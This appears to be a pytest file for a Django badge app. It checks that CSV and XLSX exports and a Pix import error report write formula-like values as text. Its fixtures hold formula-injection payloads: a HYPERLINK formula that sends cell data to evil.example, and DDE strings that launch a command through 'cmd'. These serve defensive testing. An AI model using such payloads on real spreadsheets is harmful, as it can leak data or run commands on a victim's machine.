"""Exports never hand a spreadsheet a live formula (issue 12): a badge class, an issuer or an
import error that starts with "=", "+", "-" or "@" is written as text in the CSV and the XLSX."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from badges.models import PixImport
from tests.factories import (
    AssertionFactory,
    EstablishmentFactory,
    IndicatorReaderFactory,
    UserFactory,
    academie,
    make_badge_class,
)

BADGE = '=HYPERLINK("https://evil.example/?d="&A1;"Voir")'
ISSUER = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture
def reader_client(client, issuer):
    issuer.name = ISSUER
    issuer.save()
    badge_class = make_badge_class(issuer, name=BADGE)
    school = EstablishmentFactory()  # in Poitiers
    holder = UserFactory(establishment=school)
    # Five people at least, or the académie's indicators are not served at all (secrecy).
    UserFactory.create_batch(5, establishment=school)
    AssertionFactory(badge_class=badge_class, recipient=holder, source=f"manual:{holder.pk}")
    client.force_login(IndicatorReaderFactory(academie=academie("13")))
    return client


def test_indicator_csv_writes_a_formula_like_name_as_text(reader_client):
    response = reader_client.get("/indicateurs/export/badges-par-badge.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    row = next(row for row in rows if row and BADGE in row[0])  # header lines come first
    assert row[:2] == ["'" + BADGE, "'" + ISSUER]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_indicator_workbook_has_no_formula_cell(reader_client):
    response = reader_client.get("/indicateurs/export.xlsx")
    book = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    named = next(cell for cell in cells if cell.value == BADGE)
    assert named.data_type == "s" and named.quotePrefix
    row = next(r for r in book["badges-par-badge"].iter_rows() if r[0].value == BADGE)
    assert row[1].value == ISSUER and row[1].data_type == "s"
    assert isinstance(row[3].value, int)  # numbers stay numbers


def test_pix_import_report_writes_errors_as_text(client, coordinator):
    pix_import = PixImport.objects.create(
        filename="pix.csv", status=PixImport.Status.REJECTED, user=coordinator, error_count=2,
        errors=[[2, "=1+2"], [3, "-2+3+cmd|' /C calc'!A0"]],
    )  # fmt: skip
    client.force_login(coordinator)

    response = client.get(reverse("badges:pix_import_report", args=[pix_import.pk]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1:] == [["2", "'=1+2"], ["3", "'-2+3+cmd|' /C calc'!A0"]]
